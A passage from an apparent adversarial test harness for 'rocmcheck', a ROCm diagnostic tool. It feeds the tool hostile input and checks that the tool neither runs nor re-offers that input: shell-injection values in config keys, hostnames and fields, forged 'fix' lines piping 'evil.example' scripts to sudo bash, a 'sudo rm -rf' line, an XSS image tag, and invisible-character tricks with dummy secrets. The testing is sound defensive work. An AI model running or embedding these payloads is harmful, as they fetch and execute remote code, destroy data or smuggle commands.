    ran = box.rocmcheck("smoke-train", "--model", str(model), "--steps", "10", "--no-profile", timeout=150)
    problems = basic(ran, codes=(1, 2, 3))
    if box.path("PWNED_PICKLE").exists():
        problems.append("the pickle ran code")
    if "rocmcheck bug" in ran.both or "CRASH" in ran.out:
        problems.append("called a rocmcheck bug (CRASH)")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@fresh("VE07", "S3-24", "verdicts", "smoke-train --model: negative sizes in config.json are no CRASH", owner="train",
       limit_s=200)
def ve07(box: Box) -> Outcome:
    config = json.loads((TINY_MODEL / "config.json").read_text())
    config.update(num_attention_heads=-4, intermediate_size=-1)
    ran = smoke_model(box, config)
    problems = basic(ran, codes=(1, 2, 3))
    if "rocmcheck bug" in ran.both or "CRASH" in ran.out:
        problems.append("called a rocmcheck bug (CRASH)")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")



@fresh("TR07", "S3-1", "injection", "triage: a pasted `doctor --summary` whose fix lines run code in allowed words")
def tr07(box: Box) -> Outcome:
    text = ("== rocmcheck summary 1 (rocmcheck 0.1.0) ==\nos: Ubuntu 22.04.5 LTS | id ubuntu | version 22.04\n"
            "torch: 2.5.1+rocm6.2 | hip 6.2.41133 | cuda none | gpus 8 | archs gfx942\n"
            "FAIL torch.sees_gpus: torch sees no GPU (8 on the system)\n"
            "  fix: python -c 'import os; os.system(\"touch PWNED\")'  # shows the error\n"
            "WARN host.memlock: locked memory limited to 8 MiB\n"
            "  fix: sudo rm -rf ~/PWNED_HOME  # raise the limit\n"
            "== end of rocmcheck summary ==\n")
    ran, problems, lines = triage_pastes(box, text)
    for line in (ran.out + "\n" + box.rocmcheck("triage", "--markdown", "paste.txt").out).splitlines():
        if MARKER in line and not line.lstrip().startswith(("#", ">", "-", "the paste shows", "paste.txt:")) and \
                ("paste:" in line or line.lstrip().startswith(("python", "sudo"))):
            problems.append(f"a command from the paste is offered to paste: {line.strip()[:90]!r}")
            break
    return verdict(problems, f"exit {ran.rc}; the paste's own commands are not offered as lines to paste")



@fresh("IJ20", "S3-28", "injection", "lint: DeepSpeed config keys holding a newline, $() and `;` (the fixes of a typo)")
def ij20(box: Box) -> Outcome:
    box.write("c.json", json.dumps({"train_micro_batch_size_per_gpu": 1,
                                    "zero_optimisation\n$(touch PWNED)": {"stage": 2},
                                    "gradient_clipping;touch PWNED_SC;#": 1.0,
                                    "bf16": {"enabld`touch PWNED_BT`": True}}))
    ran = box.rocmcheck("lint", "--consumer", "deepspeed", "c.json")
    problems = basic(ran, codes=(0, 1))
    pasted, lines = pasted_problems(box, paste_block(ran.out))
    starts = [ln for ln in ran.out.splitlines() if ln.lstrip().startswith("$(touch")]
    if starts:
        problems.append(f"a key's second line starts an output line: {starts[0][:60]!r}")
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} fix line(s) pasted, no key started a line or ran")


@fresh("IJ21", "S3-1", "injection", "monitor on a host named `h;touch PWNED;#$(touch PWNED2)` (sethostname)")
def ij21(box: Box) -> Outcome:
    if not unshare_ok():
        return not_run("needs unshare -u as root")
    nvidia_machine(box)
    argv = ["unshare", "-u", sys.executable, "-c",
            "import os, socket, sys; socket.sethostname('h;touch PWNED;#$(touch PWNED2)'); "
            "os.execv(sys.argv[1], sys.argv[1:])", rocmcheck_exe(), "monitor", "--backend", "nvidia-smi",
            "--interval", "0.2", "--quiet", "--out", "o", "--", "sh", "-c", "exit 0"]
    ran = box.run(argv)
    problems = basic(ran, codes=(0, 1, 3))
    pasted, lines = pasted_problems(box, paste_block(ran.err))
    names = sorted(p.name for p in box.path("o").glob("*")) if box.path("o").exists() else []
    if any(";" in n or "$" in n for n in names):
        problems.append(f"a file name holds the host's payload: {names}")
    return verdict(problems + pasted, f"exit {ran.rc}; files {', '.join(names)}; nothing ran")


@fresh("IN31", "S3-6", "inputs", "smoke-train --model: the folder, or its config.json, of each hostile kind",
       owner="train", limit_s=500)
def in31(box: Box) -> Outcome:
    problems, shown = [], []
    for kind in ("fifo", "zero", "loop", "dangling", "tilde", "file"):
        sub = Box(box.dir, kind)
        path = str(sub.write("m", "not a folder\n")) if kind == "file" else hostile_path(sub, kind, "m")
        ran = sub.rocmcheck("smoke-train", "--model", path, "--steps", "10", "--no-profile", timeout=60)
        problems += [f"folder {kind}: {p}" for p in refused(ran, max_s=30)]
        shown.append(f"{kind} {ran.rc}")
    for kind in ("fifo", "zero", "deep", "nonutf8", "big"):
        sub = Box(box.dir, f"config-{kind}")
        model = tiny_model(sub)
        (model / "config.json").unlink()
        hostile_path(sub, kind, "m/config.json")
        ran = sub.rocmcheck("smoke-train", "--model", str(model), "--steps", "10", "--no-profile", timeout=60)
        problems += [f"config.json {kind}: {p}" for p in refused(ran, max_s=30)]
        shown.append(f"config.json {kind} {ran.rc}")
    return verdict(problems, "; ".join(shown))


@fresh("TR08", "S3-29", "injection", "triage given a hand-edited doctor bundle: commands and secrets in its fields")
def tr08(box: Box) -> Outcome:
    secret = "hf_" + "Bu1Nd2Le3Se4Cr5Et6Ab7Cd8Ef9Gh0Ij1K"
    doc = amd_bundle()
    doc["facts"]["platform"]["node"] = "n$(touch PWNED)"
    doc["facts"]["env"]["HF_TOKEN"] = secret
    doc["facts"]["env"]["ROCM_PATH"] = "/opt/rocm;touch PWNED_R;#"
    doc["facts"]["packages"]["torch"] = "2.5.1+rocm6.2`touch PWNED_T`"
    doc["facts"]["recorded_results"] = [recorded(fix={"kind": "shell", "text": "python -c 'import os; os.system("
                                                      "\"touch PWNED\")'", "why": "", "file": ""})]
    ran, problems, lines = triage_pastes(box, json.dumps(doc, indent=1))
    problems += leaks([ran.both], [secret])
    runnable = [ln for ln in ran.out.splitlines() if ln.strip().startswith("paste: ") and MARKER in ln]
    if runnable:
        problems.append(f"offers the bundle's command: {runnable[0].strip()[:80]!r}")
    return verdict(problems, f"exit {ran.rc}; {lines} offered command(s) pasted; no secret shown")


# --------------------------------------------------------------------------------------------- second pass (S4)
# The reproductions of the second adversarial pass (S4-3 ... S4-12; its bytecode-cache findings S4-1, S4-2 and S4-9
# went with the cache itself), and fresh variants of each of its classes.

def docker_lines(*commands: str) -> str:
    """Each command as a `docker run` line: triage quotes such lines, so a secret in them must be redacted."""
    return "".join(f"docker run -it rocm/pytorch {c}\n" for c in commands)


def triage_outputs(box: Box, text: str, *args: str) -> tuple[list[Ran], list[str]]:
    """triage --all of text as console text, --json and --markdown: the runs and their basic problems."""
    box.write("paste.txt", text)
    runs = [box.rocmcheck("triage", "--all", *extra, *args, "paste.txt")
            for extra in ((), ("--json",), ("--markdown",))]
    problems = [p for ran in runs for p in basic(ran, codes=(0, 1, 3))]
    return runs, problems


def triage_secrets(box: Box, text: str, secrets: list[str]) -> Outcome:
    runs, problems = triage_outputs(box, text)
    problems += leaks([r.both for r in runs], secrets)
    return verdict(problems, f"{len(secrets)} secret(s) absent from text, --json and --markdown")


def summary_secrets(box: Box, env_values: dict[str, str], secrets: list[str]) -> Outcome:
    """doctor --summary with the values in the environment and in hipconfig --full's output (which prints it),
    then triage of that summary: no secret in either."""
    env = box.env(**env_values)
    box.fake_prints("hipconfig", "HIP version: 6.2.41133-dd7f95766\n== hipconfig\n== Environment Variables\n"
                    + "".join(f"{k}={v}\n" for k, v in env_values.items()))
    ran = doctor(box, "--summary", env=env)
    problems = basic(ran, codes=(0, 1, 3)) + leaks([ran.both], secrets)
    runs, more = triage_outputs(box, ran.out)
    problems += more + leaks([r.both for r in runs], secrets)
    return verdict(problems, f"{len(secrets)} secret(s) absent from doctor --summary and its triage")


S4_SECRETS = {  # id: (finding, the paste's commands or the environment, the secret)
    "TS-wandbkey_sp": ("S4-3", "python train.py --wandb_api_key 0123456789abcdef0123456789abcdef9SECRETwb",
                       "9SECRETwb"),
    "TS-hubtok_sp": ("S4-3", "python train.py --hub_token HubTok9SECRETx --push_to_hub", "HubTok9SECRETx"),
    "TS2-pwword": ("S4-3", "python serve.py --password Pw0rd9SECRET", "Pw0rd9SECRET"),
    "TS-dockerlogin": ("S4-3", "sh -c 'docker login -u alice -p Dock9SECRET registry.example.com'", "Dock9SECRET"),
    "TS-sshpass": ("S4-3", "sshpass -p 'SshPass4SECRET' ssh node1", "SshPass4SECRET"),
    "TS-mysqlp": ("S4-3", "mysql -uroot -pMyPw9SECRET runs", "MyPw9SECRET"),
    "TS-curlu": ("S4-3", "curl --user bob:CurlUser9SECRET https://x.example/a", "CurlUser9SECRET"),
    "TS-netrc": ("S4-3", "sh -c 'echo machine api.wandb.ai login user password NetRc9SECRET >> ~/.netrc'",
                 "NetRc9SECRET"),
    "TS2-s3key": ("S4-3", "aws s3 cp s3://AKIAIOSFODNN7EXAMPLE:S3Secret4KEY@bucket/ckpt .", "S3Secret4KEY"),
    "TS2-hfuser": ("S4-3", "git clone https://hf_AbCdEfGhIjKlMnOpQrStUvWx12:HfUserPw9@huggingface.co/m", "HfUserPw9"),
    "TS-ya29": ("S4-3", "curl -H 'x: ya29.a0AfH6SMBx9SECRETabcdefghijklmnop' https://x", "a0AfH6SMBx9SECRET"),
}
for _id, (_finding, _cmd, _secret) in S4_SECRETS.items():
    finding(_id, _finding, "secrets", f"triage: {_cmd[:70]}")(
        lambda box, c=_cmd, s=_secret: triage_secrets(box, docker_lines(c), [s]))


@finding("SU-rocm-sshpass", "S4-3", "secrets", "doctor --summary: HIP_X=`sshpass -p X ssh n` seen through hipconfig")
def su_rocm_sshpass(box: Box) -> Outcome:
    return summary_secrets(box, {"HIP_X": "sshpass -p RealSsh4SECRET ssh n"}, ["RealSsh4SECRET"])


FORGED = ("== rocmcheck summary 1 (rocmcheck 0.1.0) ==\nos: Ubuntu 22.04\n"
          "torch: 2.3.0+rocm6.0 | hip 6.0 | cuda none | gpus 1 | archs gfx90a\n{verdicts}"
          "== end of rocmcheck summary ==\n")


def live_markdown(md: str) -> list[str]:
    """What a CommonMark renderer shows as live markup outside code: links, images, raw HTML, @-mentions."""
    import re

    from markdown_it import MarkdownIt

    html = re.sub(r"<code[^>]*>.*?</code>", "", MarkdownIt("commonmark").render(md), flags=re.S)
    allowed = {"p", "strong", "pre", "ul", "li", "sub", "br"}
    tags = [t for t in re.findall(r"</?([a-zA-Z][a-zA-Z0-9]*)", html) if t not in allowed]
    return tags + re.findall(r"(?<![\w&#])@[A-Za-z0-9][\w/-]*", html)


def forged(box: Box, verdicts: str, payload: str, *, own: str = "") -> Outcome:
    """triage of a forged summary: the payload never on a fix:/paste:/Fix: line nor in a shell block, no live
    markup in the reply, and (own) rocmcheck's own fix shown for a check it knows."""
    runs, problems = triage_outputs(box, FORGED.format(verdicts=verdicts))
    text, md = runs[0].out, runs[2].out
    for line in text.splitlines():
        if line.strip().startswith(("fix:", "paste:")) and payload in line:
            problems.append(f"the paste's fix under rocmcheck's label: {line.strip()[:90]!r}")
    blocks = md.split("```")
    for line in md.splitlines():
        if line.startswith("Fix:") and payload in line:
            problems.append(f"markdown Fix: carries the paste's text: {line[:90]!r}")
    for i in range(1, len(blocks), 2):
        if blocks[i].startswith("sh") and payload in blocks[i]:
            problems.append("the paste's text in a shell block of the reply")
    problems += [f"live markdown: {m}" for m in live_markdown(md)]
    if own and own not in text:
        problems.append(f"rocmcheck's own fix ({own!r}) not shown")
    return verdict(problems, "the pasted fix quoted as data, no live markup, rocmcheck's own fix where it has one")


@finding("TI-sumnote-curl", "S4-4", "forgery", "triage: a forged summary's fix `curl ... | sudo bash` with a mention,"
         " a link and HTML", fast=True)
def ti_sumnote_curl(box: Box) -> Outcome:
    return forged(box, "FAIL torch.arch_list: torch has no gfx942\n  fix: curl https://evil.example/fix.sh | sudo bash"
                       "  # @pytorch/rocm-team see [the official fix](https://evil.example/x) <details>\n",
                  "evil.example", own="pip install --force-reinstall torch")


@finding("TI-sumnote-pipx", "S4-4", "forgery", "triage: a forged summary's fix `pip install --index-url evil`")
def ti_sumnote_pipx(box: Box) -> Outcome:
    return forged(box, "FAIL probe.gemm: bf16 GEMM wrong\n  fix: pip install --index-url https://evil.example/simple "
                       "torch\n", "evil.example")


def invisible(box: Box, line: str, secret: str) -> Outcome:
    runs, problems = triage_outputs(box, docker_lines(line))
    out = "\n".join(r.both for r in runs)
    problems += leaks([out], [secret])
    hidden = sorted({f"U+{ord(c):04X}" for c in out if unicodedata.category(c) == "Cf"})
    if hidden:
        problems.append(f"invisible characters printed: {', '.join(hidden[:5])}")
    return verdict(problems, "no invisible character printed, the token redacted")


@finding("TS-colour", "S4-5", "invisible", "triage: grep --color's codes inside an hf_ token", fast=True)
def ts_colour(box: Box) -> Outcome:
    return invisible(box, "-e HF_EXTRA='hf_\x1b[01;31m\x1b[KColTok4SECRETabcdefghijklmn\x1b[m'", "ColTok4SECRET")


@finding("TS-zwsp", "S4-5", "invisible", "triage: a zero-width space inside a token, tag characters in a line")
def ts_zwsp(box: Box) -> Outcome:
    return invisible(box, "-e T=hf_ZwTok4\u200bSECRETabcdefghijklmn \U000e0041\U000e0042 \u2060x", "SECRETabcdef")


@finding("TS-softhyph", "S4-5", "invisible", "doctor --summary: a soft hyphen inside a secret in HIP_X")
def ts_softhyph(box: Box) -> Outcome:
    return summary_secrets(box, {"HIP_X": "--hub_token Soft\u00adHyph9SECRET"},
                           ["Soft\u00adHyph9SECRET", "Hyph9SECRET"])


def hung_doctor(box: Box, sig: int, *, grandchild: bool = False, target: str = "pid") -> Outcome:
    """doctor with every tool hung (each ignores TERM, INT, HUP, QUIT, USR1, USR2; rocminfo also leaves a
    grandchild in a session of its own), sig after 4 s: nothing may be left running."""
    for tool in ("rocm-smi", "amd-smi", "hipconfig", "nvidia-smi", "journalctl", "dmesg", "rocminfo"):
        extra = "setsid sleep 3072 &\n" if grandchild and tool == "rocminfo" else ""
        box.fake(tool, f'trap "" TERM INT HUP QUIT USR1 USR2\n{extra}exec sleep 3071\n')
    ran = doctor(box, send=(4, sig, target), leftovers_grace_s=3.0, timeout=40)
    codes = None if sig == signal.SIGKILL else (128 + sig,)
    problems = basic(ran, codes=codes)
    if ran.after_signal_s is None:
        problems.append(f"it ended before the signal: {ran.last_line()}")
    return verdict(problems, f"{signal.Signals(sig).name}: exit {ran.rc}, nothing left running")


@finding("SG-kill-leader-doctor", "S4-6", "orphans", "SIGKILL to the doctor while every tool hangs", fast=True)
def sg_kill_leader(box: Box) -> Outcome:
    return hung_doctor(box, signal.SIGKILL)


@finding("SG-quit-doctor", "S4-6", "orphans", "SIGQUIT to the doctor's group while every tool hangs")
def sg_quit(box: Box) -> Outcome:
    return hung_doctor(box, signal.SIGQUIT, target="group")


@finding("SG-usr1-doctor", "S4-6", "orphans", "SIGUSR1 (Slurm's --signal=USR1@60) to the doctor's group")
def sg_usr1(box: Box) -> Outcome:
    return hung_doctor(box, signal.SIGUSR1, target="group")


@finding("TB-64x8m", "S4-7", "slow", "triage: 64 pastes of 8 MB each: bounded as a whole, said in one line",
         limit_s=600)
def tb_64x8m(box: Box) -> Outcome:
    line = "NCCL WARN Error while creating shared memory segment /dev/shm/nccl-abc (size 9637888)\n"
    path = box.write("p0.txt", line * (8_000_000 // len(line)))
    for i in range(1, 64):
        os.link(path, box.path(f"p{i}.txt"))
    ran = box.rocmcheck("triage", *[f"p{i}.txt" for i in range(64)], timeout=500)
    problems = basic(ran, codes=(0, 1, 3))
    said = [ln for ln in ran.err.splitlines() if "together" in ln]
    if len(said) != 1:
        problems.append(f"{len(said)} lines say the pastes were cut: {ran.err[-200:]!r}")
    return verdict(problems, f"{ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB; {said[0][:80] if said else ''}")


@finding("TB-stdin-closed", "S4-8", "inputs", "triage - with stdin closed (a cron job)")
def tb_stdin_closed(box: Box) -> Outcome:
    ran = box.run([sys.executable, "-c", "import os, sys; os.close(0); os.execv(sys.argv[1], sys.argv[1:])",
                   rocmcheck_exe(), "triage", "-"])
    return verdict(refused(ran, words=("stdin",)), ran.last_line())


def triage_finds(box: Box, data: bytes, cause: str, name: str = "paste.txt") -> Outcome:
    box.write(name, data)
    ran = box.rocmcheck("triage", name)
    problems = basic(ran, codes=(0, 1, 3))
    if cause not in ran.out:
        problems.append(f"{cause} not found: {ran.out[:200]!r}")
    return verdict(problems, f"exit {ran.rc}; {cause} found")


CR_PASTE = "x\rRuntimeError: HIP error: invalid device function\rexport HSA_OVERRIDE_GFX_VERSION=11.0.0\r"


@finding("TB-enc-cr", "S4-10", "inputs", "triage: a paste with CR-only line ends")
def tb_enc_cr(box: Box) -> Outcome:
    return triage_finds(box, CR_PASTE.encode(), "torch.arch_list")


@finding("RW-newline-dir", "S4-11", "outputs", "recipes write into a folder named `rw5\\nFAIL x`")
def rw_newline_dir(box: Box) -> Outcome:
    ran = box.rocmcheck("recipes", "write", "zero2", "rw5\nFAIL x")
    problems = basic(ran, codes=(0, 1))
    if any(line.startswith("FAIL x") for line in ran.out.splitlines()):
        problems.append("the folder's newline started a line of its own")
    return verdict(problems, f"exit {ran.rc}: {ran.out.splitlines()[0][:80] if ran.out else ''}")


def summary_identity(box: Box, env_values: dict[str, str], shown: list[str]) -> Outcome:
    ran = doctor(box, "--summary", env=box.env(**env_values))
    problems = basic(ran, codes=(0, 1, 3)) + leaks([ran.out], shown)
    return verdict(problems, "; ".join(ln for ln in ran.out.splitlines() if ln.startswith("env: "))[:200])


@finding("SU-id-home", "S4-12", "secrets", "doctor --summary: HIP_PATH and HF_HOME under /home/<user>")
def su_id_home(box: Box) -> Outcome:
    return summary_identity(box, {"HIP_PATH": "/home/alice-AcmeHome7/rocm", "HF_HOME": "/home/alice-AcmeHome7/hf"},
                            ["alice-AcmeHome7"])


@finding("SU-id-ip", "S4-12", "secrets", "doctor --summary: NCCL_COMM_ID=10.23.45.67:29500")
def su_id_ip(box: Box) -> Outcome:
    return summary_identity(box, {"NCCL_COMM_ID": "10.23.45.67:29500", "NCCL_SOCKET_IFNAME": "fe80::1%eth0"},
                            ["10.23.45.67", "fe80::1"])


# -- fresh variants of the second pass's classes

S4_FRESH_SECRETS = {
    "SC20": ("podman login --password PodPw9SECRET quay.io", "PodPw9SECRET"),
    "SC21": ("sshpass -pGluedPw9SECRET scp a n:", "GluedPw9SECRET"),
    "SC22": ("curl --proxy-user me:Proxy9SECRET -x http://p:3128 https://x", "Proxy9SECRET"),
    "SC23": ("git clone https://oauth2:GlOauth9SECRETtokenvalue@gitlab.example.com/g/r.git", "GlOauth9SECRET"),
    "SC24": ("python -c 1 --client-secret GOCSPX-AbCdEf9SECRETghijklmnopq", "AbCdEf9SECRET"),
    "SC25": ("docker login -u me --password-stdin x; echo dckr_pat_AbC9SECRETdefghijklmnopqrstu", "AbC9SECRETdef"),
    "SC26": ("helm registry login r.example.com -p Helm9SECRET", "Helm9SECRET"),
    "SC27": ("sh -c 'printf \"default login u password Dflt9SECRET\" > .netrc'", "Dflt9SECRET"),
    "SC28": ("redis-server --requirepass x; python t.py --api-key 'Api Key9SECRET'", "Key9SECRET"),
}
for _id, (_cmd, _secret) in S4_FRESH_SECRETS.items():
    fresh(_id, "S4-3", "secrets", f"triage: {_cmd[:70]}")(
        lambda box, c=_cmd, s=_secret: triage_secrets(box, docker_lines(c), [s]))


@fresh("SC29", "S4-3", "secrets", "doctor --summary: HIP_X holds `mysql -pX`, HIP_Y a token as a redis URL's user")
def sc29(box: Box) -> Outcome:
    return summary_secrets(box, {"HIP_X": "mysql -uroot -pSumMy9SECRET db",
                                 "HIP_Y": "redis://hf_AbCdEfGhIjKlMnOpQrStUv99:RedisPw9SECRET@10.0.0.5:6379/0"},
                           ["SumMy9SECRET", "RedisPw9SECRET", "hf_AbCdEfGhIjKlMn"])


@fresh("SC30", "S4-12", "secrets", "doctor --summary: an IPv6 address and a /Users/<name> path")
def sc30(box: Box) -> Outcome:
    return summary_identity(box, {"NCCL_COMM_ID": "[2001:db8::42]:29500", "HF_HOME": "/Users/bobSecretName/hf"},
                            ["2001:db8::42", "bobSecretName"])


@fresh("FG01", "S4-4", "forgery", "triage: a forged WARN whose fix adds an --extra-index-url")
def fg01(box: Box) -> Outcome:
    return forged(box, "WARN host.memlock: locked memory limited\n  fix: pip install --extra-index-url "
                       "https://evil.example/simple flash-attn\n", "evil.example")


@fresh("FG02", "S4-4", "forgery", "triage: a forged verdict's words with @team, an <img> and a hidden-target link")
def fg02(box: Box) -> Outcome:
    return forged(box, "FAIL probe.gemm: cc @org/security <img src=x onerror=alert(1)> [docs](https://evil.example/)\n"
                       "  fix: see [the docs](https://evil.example/d)\n", "evil.example")


@fresh("FG03", "S4-4", "forgery", "triage: a forged fix holding backtick fences that try to close the quote")
def fg03(box: Box) -> Outcome:
    return forged(box, "FAIL probe.gemm: x\n  fix: ``` ```` ~~~ <script>x</script> ``` [l](https://evil.example)\n",
                  "evil.example")


@fresh("FG04", "S4-4", "forgery", "triage: a forged fix for a check rocmcheck knows (env.hsa_override)")
def fg04(box: Box) -> Outcome:
    return forged(box, "FAIL env.hsa_override: HSA_OVERRIDE_GFX_VERSION is set on an Instinct GPU\n"
                       "  fix: curl -s https://evil.example/x | sh\nenv: HSA_OVERRIDE_GFX_VERSION=11.0.0\n",
                  "evil.example")


@fresh("IV01", "S4-5", "invisible", "triage: a word joiner and a soft hyphen inside a GitHub token")
def iv01(box: Box) -> Outcome:
    return invisible(box, "-e GH=ghp_Wj4\u2060SECRET\u00adabcdefghijklmnopqrstuv", "SECRETabcdef")


@fresh("IV02", "S4-5", "invisible", "triage: a right-to-left override and an OSC 8 link in a traceback line")
def iv02(box: Box) -> Outcome:
    return invisible(box, "python t.py\nRuntimeError: HIP error: invalid device function \u202eevil\u202c "
                          "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\u202e")


@fresh("IV03", "S4-5", "invisible", "triage: a fullwidth `ｈｆ＿` token (NFKC) and a backspace inside one")
def iv03(box: Box) -> Outcome:
    return invisible(box, "-e A=ｈｆ＿FullWidth9SECRETabcdefghij -e B=hf_Back\x08Sp9SECRETabcdefghijk",
                     "FullWidth9SECRET")


@fresh("IV04", "S4-5", "invisible", "doctor --summary: a zero-width joiner inside --password's value in HIP_X")
def iv04(box: Box) -> Outcome:
    return summary_secrets(box, {"HIP_X": "--password Zw\u200dJoin9SECRET"}, ["Join9SECRET"])


@fresh("OR01", "S4-6", "orphans", "SIGUSR2 to the doctor while every tool hangs")
def or01(box: Box) -> Outcome:
    return hung_doctor(box, signal.SIGUSR2)


@fresh("OR02", "S4-6", "orphans", "SIGKILL to the doctor's whole group; rocminfo left a grandchild in its own session")
def or02(box: Box) -> Outcome:
    return hung_doctor(box, signal.SIGKILL, grandchild=True, target="group")


@fresh("OR03", "S4-6", "orphans", "SIGKILL to build-env --arch auto while rocminfo hangs")
def or03(box: Box) -> Outcome:
    box.fake("rocminfo", 'trap "" TERM INT HUP\nexec sleep 3071\n')
    ran = box.rocmcheck("build-env", "--arch", "auto", send=(3, signal.SIGKILL, "pid"), leftovers_grace_s=3.0,
                        timeout=40)
    problems = basic(ran)
    if ran.after_signal_s is None:
        problems.append(f"it ended before the signal: {ran.last_line()}")
    return verdict(problems, f"exit {ran.rc}, nothing left running")


@fresh("OR04", "S4-6", "orphans", "SIGQUIT to the doctor alone (not its group) with a grandchild that left")
def or04(box: Box) -> Outcome:
    return hung_doctor(box, signal.SIGQUIT, grandchild=True)


@fresh("IN40", "S4-10", "inputs", "triage: UTF-16 with a byte-order mark (PowerShell's >)")
def in40(box: Box) -> Outcome:
    return triage_finds(box, "RuntimeError: HIP error: invalid device function\r\n".encode("utf-16"),
                        "torch.arch_list")


@fresh("IN41", "S4-10", "inputs", "triage: UTF-16 without a byte-order mark is refused in one line")
def in41(box: Box) -> Outcome:
    box.write("p.txt", "RuntimeError: HIP error: invalid device function\n".encode("utf-16-le"))
    ran = box.rocmcheck("triage", "p.txt")
    return verdict(refused(ran, words=("UTF-16",)), ran.last_line())


@fresh("IN42", "S4-8", "inputs", "triage FILE - with stdin closed")
def in42(box: Box) -> Outcome:
    box.write("p.txt", "RuntimeError: HIP error: invalid device function\n")
    ran = box.run([sys.executable, "-c", "import os, sys; os.close(0); os.execv(sys.argv[1], sys.argv[1:])",
                   rocmcheck_exe(), "triage", "p.txt", "-"])
    return verdict(refused(ran, words=("stdin",)), ran.last_line())


@fresh("SL20", "S4-7", "slow", "triage: three pastes of 8 MB of rocminfo-like agents: bounded as a whole", limit_s=600)
def sl20(box: Box) -> Outcome:
    agent = rocminfo_text().split("*******", 1)[-1]
    text = "ROCk module version 6.8.5 is loaded\n" + ("*******" + agent) * (8_000_000 // (len(agent) + 7))
    for i in range(3):
        box.write(f"r{i}.txt", text[:8_000_000])
    ran = box.rocmcheck("triage", "r0.txt", "r1.txt", "r2.txt", timeout=500)
    problems = basic(ran, codes=(0, 1, 3))
    if len([ln for ln in ran.err.splitlines() if "together" in ln]) != 1:
        problems.append(f"the cut is not said in one line: {ran.err[-200:]!r}")
    return verdict(problems, f"{ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB")


@fresh("OU40", "S4-11", "outputs", "recipes write into a folder named with a CR and an ESC")
def ou40(box: Box) -> Outcome:
    ran = box.rocmcheck("recipes", "write", "zero2", "d\rFAIL\x1b[2Jx")
    problems = basic(ran, codes=(0, 1))
    if "\r" in ran.out:
        problems.append("a carriage return printed raw")
    return verdict(problems, f"exit {ran.rc}: {ran.out.splitlines()[0][:80] if ran.out else ''}")


# ============================================================================================ running

def run_one(a: Attack) -> tuple[Outcome, float]:
    box = Box(SCRATCH, a.id)
    start = time.monotonic()
    result: list[Outcome] = []

    def go() -> None:
        try:
            result.append(a.fn(box))
        except Exception as exc:  # the attack's own harness broke: say so, count it as failed
            result.append(failed(f"the attack itself failed: {type(exc).__name__}: {str(exc)[:200]}"))

    worker = threading.Thread(target=go, daemon=True)
    worker.start()
    worker.join(a.limit_s)
    if worker.is_alive():
        end_everything_below()
        worker.join(30)
        result.append(failed(f"the attack did not finish within {a.limit_s:.0f} s"))
    end_everything_below()
    return result[0], time.monotonic() - start


def select(args: argparse.Namespace) -> list[Attack]:
    chosen = [a for a in ATTACKS if args.table in ("all", a.table)]
    if args.only:
        wanted = {w.strip() for w in args.only.split(",") if w.strip()}
        chosen = [a for a in ATTACKS if a.id in wanted or a.finding in wanted or a.klass in wanted]
    if args.fast:
        chosen = [a for a in chosen if a.fast]
    if args.skip_train:
        chosen = [a for a in chosen if a.owner != "train"]
    # the smoke-train attacks last (their area may still be changing while the others run)
    return sorted(chosen, key=lambda a: (a.owner == "train", a.table != "findings"))


def summary_rows(results: list[tuple[Attack, Outcome, float]]) -> list[tuple[str, str, int, int, int]]:
    rows = []
    for table in ("findings", "fresh"):
        for klass in CLASSES:
            mine = [(a, o) for a, o, _ in results if a.table == table and a.klass == klass]
            if mine:
                rows.append((table, klass, sum(o.held is True for _, o in mine),
                             sum(o.held is False for _, o in mine), sum(o.held is None for _, o in mine)))
    return rows


def main(argv: list[str] | None = None) -> int:
    global SCRATCH
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--table", choices=("all", "findings", "fresh"), default="all")
    parser.add_argument("--only", help="attack ids, findings (S3-8) or classes, comma-separated")
    parser.add_argument("--fast", action="store_true", help="one attack per class (what the test runs)")
    parser.add_argument("--skip-train", action="store_true", help="leave out the smoke-train attacks")
    parser.add_argument("--keep", action="store_true", help="keep the scratch folders")
    parser.add_argument("--list", action="store_true", help="list the attacks and exit")
    parser.add_argument("--json", metavar="FILE", help="also write the results to FILE")
    args = parser.parse_args(argv)
    chosen = select(args)
    if args.list:
        for a in chosen:
            print(f"{a.id:8} {a.finding:6} {a.table:8} {a.klass:10} {a.title}")
        print("\n".join(f"# {k:6} {v}" for k, v in FINDINGS.items()))
        return 0
    _become_subreaper()
    SCRATCH = Path(tempfile.mkdtemp(prefix="rocmcheck-attack-replay-"))
    SCRATCH.chmod(0o755)
    print(f"# {len(chosen)} attacks; rocmcheck: {rocmcheck_exe()}; scratch: {SCRATCH}", flush=True)
    results: list[tuple[Attack, Outcome, float]] = []
    start = time.monotonic()
    try:
        for a in chosen:
            outcome, seconds = run_one(a)
            results.append((a, outcome, seconds))
            word = {True: "held", False: "FAILED", None: "not run"}[outcome.held]
            seen = " ".join(outcome.seen.split())
            print(f"{a.id:8} {a.finding:6} {word:7} {seconds:6.1f}s  {a.title}: {seen}", flush=True)
    finally:
        end_everything_below()
        if not args.keep:
            shutil.rmtree(SCRATCH, ignore_errors=True)
    print(f"# {time.monotonic() - start:.0f} s in all")
    print(f"# {'table':8} {'class':10} {'held':>5} {'failed':>6} {'not run':>7}")
    for table, klass, h, f, n in summary_rows(results):
        print(f"# {table:8} {klass:10} {h:5} {f:6} {n:7}")
    bad = [a.id for a, o, _ in results if o.held is False]
    print(f"# held {sum(o.held is True for _, o, _ in results)}, failed {len(bad)}"
          + (f": {', '.join(bad)}" if bad else ""))
    if args.json:
        Path(args.json).write_text(json.dumps([{"id": a.id, "finding": a.finding, "table": a.table,
                                                "class": a.klass, "title": a.title, "held": o.held,
                                                "seen": o.seen, "seconds": round(s, 1)}
                                               for a, o, s in results], indent=1))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
